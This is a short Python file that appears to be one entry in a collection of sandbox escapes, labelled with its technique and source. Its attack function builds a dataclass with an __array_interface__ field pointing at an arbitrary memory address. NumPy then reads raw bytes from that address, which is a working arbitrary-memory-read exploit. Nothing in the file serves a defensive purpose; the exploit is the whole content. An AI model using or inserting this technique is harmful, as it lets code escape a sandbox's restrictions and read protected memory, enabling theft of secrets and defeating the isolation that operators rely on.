"""Class: class machinery. Source: own find. Escape: a dataclass field named __array_interface__."""

from dataclasses import dataclass
import numpy as np


@dataclass
class A:
    __array_interface__: dict


def attack(model, tokenizer, address):
    a = A({"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3})
    return np.array(a).tobytes()
